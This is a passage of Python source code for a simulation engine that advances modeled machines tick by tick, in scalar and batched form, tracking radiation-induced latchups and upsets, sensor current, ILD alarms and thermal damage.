   (``rel ** freq_exponent``) are precomputed per DVFS level; thermal
   damage is tracked as a *deadline* computed with ``math.log`` only
   when an SEL changes the lane's extra draw, so the per-tick check is
   a comparison. Everything that runs per tick is elementwise IEEE
   arithmetic whose result does not depend on array shape.
3. **Sequential accumulation.** Clocks, busy-seconds, energy and the
   ILD running residual sum are accumulated one tick at a time in both
   backends — a batched lane performs the same adds in the same order
   as its scalar twin.

Divergence (a reboot, a power cycle, any per-machine control flow the
lockstep loop cannot express) is handled by **peeling**:
:meth:`BatchMachines.peel` materialises the lane into a real
:class:`Machine` plus its carried :class:`TickState` and returns a
:class:`FleetTicker` that continues scalar, while the remaining lanes
stay batched. See ``docs/batch.md``.
"""

from __future__ import annotations

import hashlib
import math
from dataclasses import dataclass, field

import numpy as np

from ..errors import ConfigurationError, SimulationError
from .machine import Machine, MachineSpec, _digest_update
from ..radiation.thermal import ThermalParams, time_to_damage

#: CoreCounters field order used by the packed (lane, core, counter)
#: array — column i of the counters array is _COUNTER_FIELDS[i].
_COUNTER_FIELDS = (
    "instructions",
    "cycles",
    "bus_cycles",
    "branches",
    "branch_misses",
    "cache_references",
    "cache_hits",
)


@dataclass(frozen=True)
class TickConfig:
    """Parameters of the lockstep tick engine.

    Defaults mirror the rest of the stack: 1 ms metric ticks with four
    sensor samples each (:class:`~repro.sim.telemetry.TelemetryConfig`),
    ``ondemand`` governor thresholds, the paper's ILD constants
    (0.055 A / 3 s / ±4-sample rolling minimum) and the calibrated
    thermal model.
    """

    dt: float = 1e-3
    samples_per_tick: int = 4
    #: RNG draw-block granularity in ticks. Part of the reproducibility
    #: contract: digests are guaranteed equal only for runs that
    #: partition ticks into the same blocks.
    block_ticks: int = 256
    util_jitter: float = 0.04
    branch_fraction: float = 0.12
    branch_miss_rate: float = 0.03
    up_threshold: float = 0.80
    down_threshold: float = 0.30
    residual_threshold_amps: float = 0.055
    persistence_seconds: float = 3.0
    quiescence_utilization: float = 0.22
    filter_halfwidth_samples: int = 4
    thermal: ThermalParams = field(default_factory=ThermalParams)

    def __post_init__(self) -> None:
        if self.dt <= 0:
            raise ConfigurationError("dt must be positive")
        if self.samples_per_tick <= 0:
            raise ConfigurationError("samples_per_tick must be positive")
        if self.block_ticks <= 0:
            raise ConfigurationError("block_ticks must be positive")
        if not 0 < self.down_threshold < self.up_threshold <= 1:
            raise ConfigurationError(
                "need 0 < down_threshold < up_threshold <= 1"
            )
        if self.residual_threshold_amps <= 0 or self.persistence_seconds <= 0:
            raise ConfigurationError("ILD threshold/persistence must be positive")
        if self.filter_halfwidth_samples < 0:
            raise ConfigurationError("filter halfwidth must be >= 0")
        if not 0 <= self.quiescence_utilization <= 1:
            raise ConfigurationError("quiescence_utilization must be in [0, 1]")
        if not 0 <= self.branch_fraction <= 1 or not 0 <= self.branch_miss_rate <= 1:
            raise ConfigurationError("branch fractions must be in [0, 1]")

    @property
    def window_ticks(self) -> int:
        """ILD persistence window length in ticks."""
        return max(1, int(round(self.persistence_seconds / self.dt)))


@dataclass(frozen=True)
class TickLaneMode:
    """Per-lane redundancy-mode overlay for the tick engines.

    The tick engines model the *board*, not the software stack, so a
    redundancy mode projects onto exactly two knobs: a standing extra
    current draw (replica cores held hot) and an optional ILD residual
    threshold override. The standing draw is part of the *expected*
    current model — it raises energy, not the ILD residual — so mode
    changes never masquerade as latchups. Defaults are arithmetic
    no-ops: a default-mode lane is bitwise identical to a mode-less
    one, and the mode is configuration, not state, so it stays out of
    :func:`_engine_digest`.
    """

    name: str = ""
    #: Standing board current of the mode (amps), added to the modeled
    #: active current (and therefore to energy), not to the residual.
    extra_current_amps: float = 0.0
    #: ILD residual threshold override; ``None`` keeps the config's.
    residual_threshold_amps: "float | None" = None

    def __post_init__(self) -> None:
        if self.extra_current_amps < 0:
            raise ConfigurationError("mode standing current must be >= 0")
        if (
            self.residual_threshold_amps is not None
            and self.residual_threshold_amps <= 0
        ):
            raise ConfigurationError("mode residual threshold must be positive")


#: The mode-less default: zero standing draw, config thresholds.
DEFAULT_LANE_MODE = TickLaneMode()


@dataclass(frozen=True)
class SelStep:
    """A latchup step: persistent extra current from ``tick`` onward."""

    tick: int
    delta_amps: float

    def __post_init__(self) -> None:
        if self.tick < 0:
            raise ConfigurationError("event tick must be >= 0")


@dataclass(frozen=True)
class SeuStrike:
    """A pipeline upset: poisons one core's datapath at ``tick``."""

    tick: int
    core: int

    def __post_init__(self) -> None:
        if self.tick < 0 or self.core < 0:
            raise ConfigurationError("event tick/core must be >= 0")


@dataclass(frozen=True)
class LaneEvents:
    """Per-lane radiation events for one run."""

    sels: tuple = ()
    seus: tuple = ()


class TickProgram:
    """A tick-indexed activity schedule shared by every lane.

    ``utilization`` has shape ``(ticks, n_cores)``; ``freq_override``
    (optional, shape ``(ticks,)``) pins every core to an exact DVFS
    level where it is not NaN; ``jitter`` (optional, shape ``(ticks,)``)
    overrides :attr:`TickConfig.util_jitter` per tick. ``sels``/``seus``
    apply to *every* lane (use :class:`LaneEvents` for per-lane ones).
    """

    def __init__(
        self,
        utilization,
        freq_override=None,
        jitter=None,
        sels=(),
        seus=(),
    ) -> None:
        self.utilization = np.ascontiguousarray(utilization, dtype=float)
        if self.utilization.ndim != 2 or self.utilization.shape[0] == 0:
            raise ConfigurationError(
                "utilization must have shape (ticks, n_cores) with ticks >= 1"
            )
        if (self.utilization < 0).any() or (self.utilization > 1).any():
            raise ConfigurationError("utilization must lie in [0, 1]")
        ticks = self.utilization.shape[0]
        self.freq_override = None
        if freq_override is not None:
            self.freq_override = np.ascontiguousarray(freq_override, dtype=float)
            if self.freq_override.shape != (ticks,):
                raise ConfigurationError("freq_override must have shape (ticks,)")
        self.jitter = None
        if jitter is not None:
            self.jitter = np.ascontiguousarray(jitter, dtype=float)
            if self.jitter.shape != (ticks,):
                raise ConfigurationError("jitter must have shape (ticks,)")
            if (self.jitter < 0).any():
                raise ConfigurationError("jitter amplitudes must be >= 0")
        self.sels = tuple(sels)
        self.seus = tuple(seus)

    @property
    def n_ticks(self) -> int:
        return self.utilization.shape[0]

    @property
    def n_cores(self) -> int:
        return self.utilization.shape[1]

    def jitter_amp(self, tick: int, default: float) -> float:
        return float(self.jitter[tick]) if self.jitter is not None else default

    @classmethod
    def constant(
        cls,
        utilization,
        ticks: int,
        n_cores: "int | None" = None,
        freq: "float | None" = None,
        sels=(),
        seus=(),
    ) -> "TickProgram":
        """Uniform activity: one utilization held for ``ticks`` ticks."""
        if np.ndim(utilization) == 0:
            if n_cores is None:
                raise ConfigurationError("scalar utilization needs n_cores")
            row = np.full(n_cores, float(utilization))
        else:
            row = np.asarray(utilization, dtype=float)
        base = np.tile(row, (ticks, 1))
        override = None if freq is None else np.full(ticks, float(freq))
        return cls(base, freq_override=override, sels=sels, seus=seus)

    @classmethod
    def from_segments(cls, segments, dt: float, sels=(), seus=()) -> "TickProgram":
        """Resample :class:`~repro.sim.telemetry.ActivitySegment` lists
        onto the tick grid (each segment covers
        ``max(1, round(duration / dt))`` ticks)."""
        if not segments:
            raise ConfigurationError("need at least one segment")
        if dt <= 0:
            raise ConfigurationError("dt must be positive")
        rows, overrides, jitters = [], [], []
        for seg in segments:
            ticks = max(1, int(round(seg.duration / dt)))
            rows.append(np.tile(np.asarray(seg.core_util, dtype=float), (ticks, 1)))
            ov = float("nan") if seg.freq_override is None else float(seg.freq_override)
            overrides.append(np.full(ticks, ov))
            jitters.append(np.full(ticks, float(seg.util_jitter)))
        return cls(
            np.concatenate(rows),
            freq_override=np.concatenate(overrides),
            jitter=np.concatenate(jitters),
            sels=sels,
            seus=seus,
        )


@dataclass(frozen=True)
class TickAlarm:
    """One ILD alarm onset during a tick run."""

    lane: int
    tick: int
    time: float
    mean_residual: float


@dataclass(frozen=True)
class TickDeath:
    """A lane crossing its thermal damage deadline."""

    lane: int
    tick: int
    time: float


@dataclass(frozen=True)
class TickRunReport:
    """What one :meth:`run` call observed, ordered by (tick, lane)."""

    lanes: int
    ticks: int
    alarms: tuple
    deaths: tuple

    def lane_alarms(self, lane: int) -> tuple:
        return tuple(a for a in self.alarms if a.lane == lane)

    def lane_deaths(self, lane: int) -> tuple:
        return tuple(d for d in self.deaths if d.lane == lane)


def merge_reports(reports) -> TickRunReport:
    """Merge per-machine scalar reports into one fleet report with the
    batch backend's (tick, lane) ordering."""
    reports = list(reports)
    alarms = sorted(
        (a for r in reports for a in r.alarms), key=lambda a: (a.tick, a.lane)
    )
    deaths = sorted(
        (d for r in reports for d in r.deaths), key=lambda d: (d.tick, d.lane)
    )
    return TickRunReport(
        lanes=sum(r.lanes for r in reports),
        ticks=max((r.ticks for r in reports), default=0),
        alarms=tuple(alarms),
        deaths=tuple(deaths),
    )


@dataclass
class TickState:
    """Engine-private per-lane state carried across :meth:`run` calls.

    This is everything the tick engine tracks *outside* the
    :class:`Machine` object graph; together with the machine state it
    defines the byte-identity contract (:func:`_engine_digest` hashes
    both). Field order is part of the digest and must not change.
    """

    filter_tail: np.ndarray
    ring: np.ndarray
    ring_pos: int
    streak: int
    run_sum: float
    in_alarm: bool
    alarm_count: int
    first_alarm_time: float
    sel_onset_time: float
    damage_deadline: float
    energy_joules: float
    ticks_run: int
    dead: bool

    @classmethod
    def fresh(cls, config: TickConfig) -> "TickState":
        return cls(
            filter_tail=np.full(config.filter_halfwidth_samples, np.inf),
            ring=np.zeros(config.window_ticks),
            ring_pos=0,
            streak=0,
            run_sum=0.0,
            in_alarm=False,
            alarm_count=0,
            first_alarm_time=float("nan"),
            sel_onset_time=float("nan"),
            damage_deadline=float("inf"),
            energy_joules=0.0,
            ticks_run=0,
            dead=False,
        )


def _engine_digest(
    rng_state,
    t,
    freq_idx,
    counters,
    busy,
    poisoned,
    damaged,
    extra,
    reboots,
    power_cycles,
    state: TickState,
) -> str:
    """SHA-256 over one lane's engine-visible state (machine hot state
    + RNG stream position + :class:`TickState`). Both backends feed the
    same canonical values, so equal digests mean equal lanes."""
    h = hashlib.sha256()
    _digest_update(
        h,
        {
            "rng": rng_state,
            "t": float(t),
            "freq_idx": np.ascontiguousarray(freq_idx, dtype=np.int64),
            "counters": np.ascontiguousarray(counters, dtype=np.int64),
            "busy": np.ascontiguousarray(busy, dtype=float),
            "poisoned": np.ascontiguousarray(poisoned, dtype=bool),
            "damaged": np.ascontiguousarray(damaged, dtype=bool),
            "extra": float(extra),
            "reboots": int(reboots),
            "power_cycles": int(power_cycles),
        },
    )
    _digest_update(h, state)
    return h.hexdigest()


class _TickKernel:
    """Shape-generic tick arithmetic shared by both backends.

    Every method works identically on ``(C,)`` arrays (one machine) and
    ``(N, C)`` arrays (a batch): only elementwise IEEE operations and
    fixed-length trailing-axis reductions, so results are bitwise
    independent of the leading shape. Per-DVFS-level current tables are
    precomputed here so no ``**`` runs per tick.
    """

    def __init__(self, spec: MachineSpec, config: TickConfig) -> None:
        core = spec.core_spec
        power = spec.power_params
        sensor = spec.sensor_params
        self.config = config
        self.level_floats = tuple(float(f) for f in core.freq_levels)
        self.levels = np.array(self.level_floats)
        self._level_index = {f: i for i, f in enumerate(self.level_floats)}
        rel = self.levels / self.level_floats[-1]
        self.level_current = power.core_max_current * rel**power.freq_exponent
        self.level_static = power.static_freq_current * rel
        self.idle_current = power.idle_current
        self.base_ipc = core.base_ipc
        self.instr_scale = core.base_ipc * config.dt
        self.penalty = core.branch_miss_penalty_cycles
        self.bus_per_instr = core.bus_cycles_per_instruction
        self.noise_sigma = sensor.noise_sigma
        self.spike_probability = sensor.spike_probability
        self.spike_min = sensor.spike_min
        self.spike_span = sensor.spike_max - sensor.spike_min
        self.lsb = sensor.lsb
        self.vdt = power.supply_voltage * config.dt
        self.thermal = config.thermal
        self.window = config.window_ticks
        self.halfwidth = config.filter_halfwidth_samples
        self.residual_threshold = config.residual_threshold_amps
        self.quiescence_utilization = config.quiescence_utilization

    def index_of(self, freq: float) -> int:
        """Exact DVFS level index of ``freq`` (raises if not a level)."""
        try:
            return self._level_index[float(freq)]
        except KeyError:
            raise ConfigurationError(
                f"frequency {freq:g} Hz is not a DVFS level"
            ) from None

    def override_indices(self, program: TickProgram) -> "np.ndarray | None":
        """Per-tick override level indices (-1 = governor decides)."""
        if program.freq_override is None:
            return None
        out = np.full(program.n_ticks, -1, dtype=np.int64)
        for k, value in enumerate(program.freq_override):
            if not math.isnan(value):
                out[k] = self.index_of(float(value))
        return out

    def freq_index(self, util: np.ndarray) -> np.ndarray:
        """Steady-state ``ondemand`` level per core — the same formula
        as :meth:`OndemandGovernor.steady_state_freq_array`."""
        cfg = self.config
        span = (util - cfg.down_threshold) / (cfg.up_threshold - cfg.down_threshold)
        n = len(self.level_floats) - 1
        return np.clip(np.round(span * n), 0, n).astype(np.int64)

    def charge(self, util: np.ndarray, idx: np.ndarray):
        """Instruction/cycle/bus/branch accounting for one tick — the
        array form of :meth:`Core.execute` with the engine's fixed
        branch statistics."""
        cfg = self.config
        freq = self.levels[idx]
        instr = ((util * freq) * self.instr_scale).astype(np.int64)
        branches = (instr * cfg.branch_fraction).astype(np.int64)
        misses = (branches * cfg.branch_miss_rate).astype(np.int64)
        cycles = (instr / self.base_ipc + misses * self.penalty).astype(np.int64) + 1
        seconds = cycles / freq
        bus = (instr * self.bus_per_instr).astype(np.int64)
        return instr, branches, misses, cycles, bus, seconds

    def board_current(self, util: np.ndarray, idx: np.ndarray) -> np.ndarray:
        """Active board current — :meth:`PowerModel.board_current` with
        zero DRAM/disk/branch-miss terms, via per-level tables."""
        per_core = self.level_current[idx] * util + self.level_static[idx]
        return self.idle_current + per_core.sum(axis=-1)

    def sense(self, total, noise, spike_u, spike_mag) -> np.ndarray:
        """Sensor fine samples for one tick.

        Engine-private variant of :meth:`CurrentSensor.sample`: spike
        magnitudes are *always* drawn (fixed-count blocks) and applied
        through a mask, so the draw count never depends on data — the
        requirement for lockstep lanes.
        """
        fine = np.asarray(total)[..., None] + self.noise_sigma * noise
        magnitude = self.spike_min + self.spike_span * spike_mag
        fine = np.where(spike_u < self.spike_probability, fine + magnitude, fine)
        fine = np.maximum(fine, 0.0)
        return np.round(fine / self.lsb) * self.lsb


def _index_events(program: TickProgram, events: "LaneEvents | None", n_ticks: int):
    """Tick -> list indices for one scalar lane (program then lane)."""
    sel_by_tick: "dict[int, list]" = {}
    seu_by_tick: "dict[int, list]" = {}
    merged_sels = program.sels + (events.sels if events is not None else ())
    merged_seus = program.seus + (events.seus if events is not None else ())
    for ev in merged_sels:
        if ev.tick >= n_ticks:
            raise ConfigurationError(
                f"SEL at tick {ev.tick} beyond program end {n_ticks}"
            )
        sel_by_tick.setdefault(ev.tick, []).append(ev.delta_amps)
    for ev in merged_seus:
        if ev.tick >= n_ticks:
            raise ConfigurationError(
                f"SEU at tick {ev.tick} beyond program end {n_ticks}"
            )
        seu_by_tick.setdefault(ev.tick, []).append(ev.core)
    return sel_by_tick, seu_by_tick


class FleetTicker:
    """Canonical scalar tick engine over one real :class:`Machine`.

    Advances the machine tick by tick with per-machine arithmetic,
    drawing from ``machine.rng`` in the engine's block discipline. The
    batch backend is verified against this path digest-for-digest.
    """

    def __init__(
        self,
        machine: Machine,
        config: "TickConfig | None" = None,
        state: "TickState | None" = None,
        lane_id: int = 0,
        mode: "TickLaneMode | None" = None,
    ) -> None:
        self.machine = machine
        self.config = config or TickConfig()
        self.kernel = _TickKernel(machine.spec, self.config)
        self.mode = mode if mode is not None else DEFAULT_LANE_MODE
        if state is None:
            state = TickState.fresh(self.config)
            state.dead = bool(all(core.damaged for core in machine.cores))
        else:
            if state.ring.shape != (self.kernel.window,):
                raise ConfigurationError(
                    "carried TickState ring does not match this config's window"
                )
            if state.filter_tail.shape != (self.kernel.halfwidth,):
                raise ConfigurationError(
                    "carried TickState filter tail does not match this config"
                )
        self.state = state
        self.lane_id = lane_id

    def run(
        self,
        program: TickProgram,
        events: "LaneEvents | None" = None,
    ) -> TickRunReport:
        """Advance through ``program``, returning alarms and deaths."""
        m = self.machine
        st = self.state
        kernel = self.kernel
        cfg = self.config
        if program.n_cores != m.spec.n_cores:
            raise ConfigurationError(
                f"program has {program.n_cores} cores; machine has {m.spec.n_cores}"
            )
        n_ticks = program.n_ticks
        n_samples = cfg.samples_per_tick
        window_ticks = kernel.window
        halfwidth = kernel.halfwidth
        sel_by_tick, seu_by_tick = _index_events(program, events, n_ticks)
        ov_idx = kernel.override_indices(program)
        base = program.utilization
        mode_extra = float(self.mode.extra_current_amps)
        threshold = (
            kernel.residual_threshold
            if self.mode.residual_threshold_amps is None
            else float(self.mode.residual_threshold_amps)
        )
        rng = m.rng
        n_cores = m.spec.n_cores
        alarms: list = []
        deaths: list = []

        for k0 in range(0, n_ticks, cfg.block_ticks):
            if st.dead:
                break  # frozen lane: no further draws, no further ticks
            k1 = min(n_ticks, k0 + cfg.block_ticks)
            block = k1 - k0
            jit = rng.normal(0.0, 1.0, (block, n_cores))
            noise = rng.normal(0.0, 1.0, (block, n_samples))
            spike_u = rng.random((block, n_samples))
            spike_m = rng.random((block, n_samples))
            for b in range(block):
                if st.dead:
                    break  # died mid-block: block draws already consumed
                k = k0 + b
                t = m.clock.now
                # 1. radiation events scheduled for this tick
                for delta in sel_by_tick.get(k, ()):
                    m.extra_current_draw += delta
                    if math.isnan(st.sel_onset_time):
                        st.sel_onset_time = t
                    deadline = t + time_to_damage(
                        kernel.thermal, float(m.extra_current_draw)
                    )
                    st.damage_deadline = min(st.damage_deadline, deadline)
                for core_index in seu_by_tick.get(k, ()):
                    m.cores[core_index].poisoned = True
                # 2. utilization with per-tick jitter
                amp = program.jitter_amp(k, cfg.util_jitter)
                util = np.clip(base[k] + amp * jit[b], 0.0, 1.0)
                # 3. DVFS level
                if ov_idx is not None and ov_idx[k] >= 0:
                    idx = np.full(n_cores, ov_idx[k], dtype=np.int64)
                else:
                    idx = kernel.freq_index(util)
                # 4. charge the cores
                instr, branches, misses, cycles, bus, seconds = kernel.charge(
                    util, idx
                )
                for c, core in enumerate(m.cores):
                    counters = core.counters
                    counters.instructions += int(instr[c])
                    counters.cycles += int(cycles[c])
                    counters.bus_cycles += int(bus[c])
                    counters.branches += int(branches[c])
                    counters.branch_misses += int(misses[c])
                    core.busy_seconds += float(seconds[c])
                    core.freq = kernel.level_floats[int(idx[c])]
                # 5. currents and sensor samples (the mode's standing
                # draw is part of the *modeled* active current, so it
                # cancels out of the ILD residual; ``x + 0.0`` is
                # bitwise x, so the default mode changes nothing)
                active = kernel.board_current(util, idx) + mode_extra
                total = active + m.extra_current_draw
                fine = kernel.sense(total, noise[b], spike_u[b], spike_m[b])
                # 6. rolling-minimum filter
                window = np.concatenate([st.filter_tail, fine])
                filtered = window.min()
                st.filter_tail = window[window.size - halfwidth:]
                # 7. ILD residual persistence
                residual = filtered - active
                quiescent = util.mean() <= kernel.quiescence_utilization
                if quiescent:
                    st.streak += 1
                    old = st.ring[st.ring_pos]
                    st.ring[st.ring_pos] = residual
                    st.ring_pos = (st.ring_pos + 1) % window_ticks
                    delta = residual if st.streak <= window_ticks else residual - old
                    st.run_sum = float(st.run_sum + delta)
                    if st.streak >= window_ticks:
                        mean = st.run_sum / window_ticks
                        over = bool(mean > threshold)
                        if over and not st.in_alarm:
                            at = t + cfg.dt
                            st.alarm_count += 1
                            if math.isnan(st.first_alarm_time):
                                st.first_alarm_time = at
                            alarms.append(
                                TickAlarm(
                                    lane=self.lane_id,
                                    tick=k,
                                    time=float(at),
                                    mean_residual=float(mean),
                                )
                            )
                        st.in_alarm = over
                else:
                    st.streak = 0
                    st.run_sum = 0.0
                    st.ring_pos = 0
                    st.in_alarm = False
                # 8. energy, clock, thermal deadline
                st.energy_joules = float(st.energy_joules + total * kernel.vdt)
                m.clock.advance(cfg.dt)
                st.ticks_run += 1
                if m.clock.now >= st.damage_deadline:
                    st.dead = True
                    for core in m.cores:
                        core.damaged = True
                    deaths.append(
                        TickDeath(
                            lane=self.lane_id, tick=k, time=float(m.clock.now)
                        )
                    )
        return TickRunReport(
            lanes=1, ticks=n_ticks, alarms=tuple(alarms), deaths=tuple(deaths)
        )

    def state_digest(self) -> str:
        """Engine digest of this lane (machine hot state + TickState)."""
        m = self.machine
        kernel = self.kernel
        freq_idx = np.array([kernel.index_of(c.freq) for c in m.cores], np.int64)
        counters = np.array(
            [
                [getattr(core.counters, name) for name in _COUNTER_FIELDS]
                for core in m.cores
            ],
            np.int64,
        )
        return _engine_digest(
            m.rng.bit_generator.state,
            m.clock.now,
            freq_idx,
            counters,
            np.array([c.busy_seconds for c in m.cores]),
            np.array([c.poisoned for c in m.cores], bool),
            np.array([c.damaged for c in m.cores], bool),
            m.extra_current_draw,
            m.reboots,
            m.power_cycles,
            self.state,
        )


class BatchMachines:
    """N machine lanes advanced in lockstep as packed arrays.

    Construct by *adopting* live machines (``BatchMachines(machines)``
    — their ``rng`` objects become the lane streams, and
    :meth:`sync` writes engine state back into them) or lane-lightly
    via :meth:`from_specs` (machines materialise lazily on
    :meth:`machine`/:meth:`peel`).
    """

    def __init__(
        self, machines, config: "TickConfig | None" = None
    ) -> None:
        machines = list(machines)
        if not machines:
            raise ConfigurationError("need at least one machine")
        spec = machines[0].spec
        for m in machines[1:]:
            if m.spec != spec:
                raise ConfigurationError(
                    "batched machines must share one spec; got "
                    f"{spec.name!r} and {m.spec.name!r}"
                )
        if len({id(m.rng) for m in machines}) != len(machines):
            raise ConfigurationError("batched machines must not share RNGs")
        self._init_lanes(spec, [m.rng for m in machines], config)
        self._machines = machines
        kernel = self.kernel
        for i, m in enumerate(machines):
            self._t[i] = m.clock.now
            self._extra[i] = m.extra_current_draw
            self._reboots[i] = m.reboots
            self._power_cycles[i] = m.power_cycles
            for c, core in enumerate(m.cores):
                self._freq_idx[i, c] = kernel.index_of(core.freq)
                for j, name in enumerate(_COUNTER_FIELDS):
                    self._counters[i, c, j] = getattr(core.counters, name)
                self._busy[i, c] = core.busy_seconds
                self._poisoned[i, c] = core.poisoned
                self._damaged[i, c] = core.damaged
            self._dead[i] = bool(self._damaged[i].all())

    def _init_lanes(self, spec: MachineSpec, rngs, config) -> None:
        self.spec = spec
        self.config = config or TickConfig()
        self.kernel = _TickKernel(spec, self.config)
        n = len(rngs)
        n_cores = spec.n_cores
        self._rngs = list(rngs)
        self._machines: "list[Machine | None]" = [None] * n
        self._t = np.zeros(n)
        self._extra = np.zeros(n)
        self._reboots = np.zeros(n, np.int64)
        self._power_cycles = np.zeros(n, np.int64)
        self._freq_idx = np.zeros((n, n_cores), np.int64)
        self._counters = np.zeros((n, n_cores, len(_COUNTER_FIELDS)), np.int64)
        self._busy = np.zeros((n, n_cores))
        self._poisoned = np.zeros((n, n_cores), bool)
        self._damaged = np.zeros((n, n_cores), bool)
        self._tails = np.full((n, self.kernel.halfwidth), np.inf)
        self._rings = np.zeros((n, self.kernel.window))
        self._ring_pos = np.zeros(n, np.int64)
        self._streak = np.zeros(n, np.int64)
        self._run_sum = np.zeros(n)
        self._in_alarm = np.zeros(n, bool)
        self._alarm_count = np.zeros(n, np.int64)
        self._first_alarm = np.full(n, np.nan)
        self._sel_onset = np.full(n, np.nan)
        self._deadline = np.full(n, np.inf)
        self._energy = np.zeros(n)
        self._ticks_run = np.zeros(n, np.int64)
        self._dead = np.zeros(n, bool)
        self._peeled = np.zeros(n, bool)
        self._lane_modes: "list[TickLaneMode]" = [DEFAULT_LANE_MODE] * n
        self._mode_extra = np.zeros(n)
        self._mode_threshold = np.full(n, self.kernel.residual_threshold)

    @classmethod
    def from_specs(
        cls,
        spec: MachineSpec,
        seeds=None,
        config: "TickConfig | None" = None,
        *,
        rngs=None,
    ) -> "BatchMachines":
        """Lanes from a spec and per-lane seeds (or ready Generators —
        e.g. per-trial ``SeedSequence`` streams from
        :func:`repro.campaign.trial_rng`) without materialising any
        :class:`Machine` up front."""
        if (seeds is None) == (rngs is None):
            raise ConfigurationError("pass exactly one of seeds/rngs")
        if rngs is None:
            rngs = [np.random.default_rng(int(s)) for s in seeds]
        else:
            rngs = list(rngs)
        if not rngs:
            raise ConfigurationError("need at least one lane")
        batch = cls.__new__(cls)
        batch._init_lanes(spec, rngs, config)
        return batch

    # ------------------------------------------------------------------
    @property
    def n_lanes(self) -> int:
        return len(self._rngs)

    @property
    def active_lanes(self) -> "list[int]":
        """Lanes still advanced by :meth:`run` (not dead, not peeled)."""
        return [
            int(i) for i in np.nonzero(~self._dead & ~self._peeled)[0]
        ]

    def set_lane_modes(self, modes) -> None:
        """Apply per-lane redundancy modes (the per-lane mode masks).

        ``modes`` is a sequence of :class:`TickLaneMode | None`, one
        per lane (``None`` means the default mode). Modes are engine
        configuration, not lane state: they change the arithmetic from
        the next tick on, do not enter digests, and follow the lane
        through :meth:`peel`.
        """
        modes = list(modes)
        if len(modes) != self.n_lanes:
            raise ConfigurationError(
                f"got {len(modes)} modes for {self.n_lanes} lanes"
            )
        kernel = self.kernel
        for lane, mode in enumerate(modes):
            mode = mode if mode is not None else DEFAULT_LANE_MODE
            self._lane_modes[lane] = mode
            self._mode_extra[lane] = mode.extra_current_amps
            self._mode_threshold[lane] = (
                kernel.residual_threshold
                if mode.residual_threshold_amps is None
                else mode.residual_threshold_amps
            )

    def lane_mode(self, lane: int) -> TickLaneMode:
        """The lane's current redundancy-mode overlay."""
        return self._lane_modes[lane]

    def lane_state(self, lane: int) -> TickState:
        """A detached :class:`TickState` copy of one lane."""
        return TickState(
            filter_tail=self._tails[lane].copy(),
            ring=self._rings[lane].copy(),
            ring_pos=int(self._ring_pos[lane]),
            streak=int(self._streak[lane]),
            run_sum=float(self._run_sum[lane]),
            in_alarm=bool(self._in_alarm[lane]),
            alarm_count=int(self._alarm_count[lane]),
            first_alarm_time=float(self._first_alarm[lane]),
            sel_onset_time=float(self._sel_onset[lane]),
            damage_deadline=float(self._deadline[lane]),
            energy_joules=float(self._energy[lane]),
            ticks_run=int(self._ticks_run[lane]),
            dead=bool(self._dead[lane]),
        )

    # ------------------------------------------------------------------
    def run(self, program: TickProgram, lane_events=None) -> TickRunReport:
        """Advance every active lane through ``program`` in lockstep.

        ``lane_events`` is an optional sequence of
        :class:`LaneEvents | None`, one per lane. Program-level events
        apply to every lane; per lane, program events precede lane
        events at the same tick (matching :meth:`FleetTicker.run`).
        """
        cfg = self.config
        kernel = self.kernel
        n = self.n_lanes
        n_cores = self.spec.n_cores
        n_samples = cfg.samples_per_tick
        window_ticks = kernel.window
        halfwidth = kernel.halfwidth
        if program.n_cores != n_cores:
            raise ConfigurationError(
                f"program has {program.n_cores} cores; spec has {n_cores}"
            )
        if lane_events is not None and len(lane_events) != n:
            raise ConfigurationError(
                f"lane_events has {len(lane_events)} entries for {n} lanes"
            )
        n_ticks = program.n_ticks
        ov_idx = kernel.override_indices(program)
        base = program.utilization
        # Merge program-level and per-lane events into tick indices.
        sel_by_tick: "dict[int, list]" = {}
        seu_by_tick: "dict[int, list]" = {}
        for lane in range(n):
            events = lane_events[lane] if lane_events is not None else None
            lane_sels, lane_seus = _index_events(program, events, n_ticks)
            for k, deltas in lane_sels.items():
                sel_by_tick.setdefault(k, []).extend(
                    (lane, delta) for delta in deltas
                )
            for k, cores in lane_seus.items():
                seu_by_tick.setdefault(k, []).extend(
                    (lane, core) for core in cores
                )
        alarms: list = []
        deaths: list = []

        for k0 in range(0, n_ticks, cfg.block_ticks):
            drawing = ~self._dead & ~self._peeled
            if not drawing.any():
                break
            k1 = min(n_ticks, k0 + cfg.block_ticks)
            block = k1 - k0
            jit = np.zeros((n, block, n_cores))
            noise = np.zeros((n, block, n_samples))
            spike_u = np.zeros((n, block, n_samples))
            spike_m = np.zeros((n, block, n_samples))
            for i in np.nonzero(drawing)[0]:
                rng = self._rngs[i]
                jit[i] = rng.normal(0.0, 1.0, (block, n_cores))
                noise[i] = rng.normal(0.0, 1.0, (block, n_samples))
                spike_u[i] = rng.random((block, n_samples))
                spike_m[i] = rng.random((block, n_samples))
            for b in range(block):
                k = k0 + b
                live = ~self._dead & ~self._peeled
                if not live.any():
                    break
                # 1. radiation events
                for lane, delta in sel_by_tick.get(k, ()):
                    if not live[lane]:
                        continue
                    self._extra[lane] += delta
                    if math.isnan(self._sel_onset[lane]):
                        self._sel_onset[lane] = self._t[lane]
                    deadline = self._t[lane] + time_to_damage(
                        kernel.thermal, float(self._extra[lane])
                    )
                    self._deadline[lane] = min(
                        self._deadline[lane], deadline
                    )
                for lane, core_index in seu_by_tick.get(k, ()):
                    if live[lane]:
                        self._poisoned[lane, core_index] = True
                # 2–5. utilization, DVFS, charging, currents, sensing
                amp = program.jitter_amp(k, cfg.util_jitter)
                util = np.clip(base[k][None, :] + amp * jit[:, b, :], 0.0, 1.0)
                if ov_idx is not None and ov_idx[k] >= 0:
                    idx = np.full((n, n_cores), ov_idx[k], dtype=np.int64)
                else:
                    idx = kernel.freq_index(util)
                instr, branches, misses, cycles, bus, seconds = kernel.charge(
                    util, idx
                )
                active = kernel.board_current(util, idx) + self._mode_extra
                total = active + self._extra
                fine = kernel.sense(
                    total, noise[:, b, :], spike_u[:, b, :], spike_m[:, b, :]
                )
                window = np.concatenate([self._tails, fine], axis=1)
                filtered = window.min(axis=1)
                new_tails = window[:, window.shape[1] - halfwidth:]
                residual = filtered - active
                quiescent = util.mean(axis=1) <= kernel.quiescence_utilization
                # Commit hot state for live lanes only (dead/peeled
                # lanes stay bitwise frozen, like the scalar `break`).
                li = slice(None) if bool(live.all()) else np.nonzero(live)[0]
                self._freq_idx[li] = idx[li]
                self._counters[li, :, 0] += instr[li]
                self._counters[li, :, 1] += cycles[li]
                self._counters[li, :, 2] += bus[li]
                self._counters[li, :, 3] += branches[li]
                self._counters[li, :, 4] += misses[li]
                self._busy[li] += seconds[li]
